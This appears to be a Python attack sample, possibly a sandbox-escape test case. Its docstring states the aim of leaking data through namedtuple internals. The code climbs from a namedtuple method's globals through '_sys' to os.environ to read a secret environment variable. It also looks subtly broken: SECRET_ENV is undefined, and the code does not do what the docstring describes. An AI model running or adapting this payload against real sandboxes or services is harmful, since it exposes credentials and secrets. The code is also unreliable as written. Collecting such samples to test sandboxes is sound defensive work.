"""
goal: smuggle code into the class text that namedtuple evaluates
effect: leak
"""

import collections

Point = collections.namedtuple("Point", "x y", defaults=(1,), module="os")
print(Point.__new__.__builtins__ if False else Point._make.__func__.__globals__["_sys"].modules["os"].environ[SECRET_ENV])
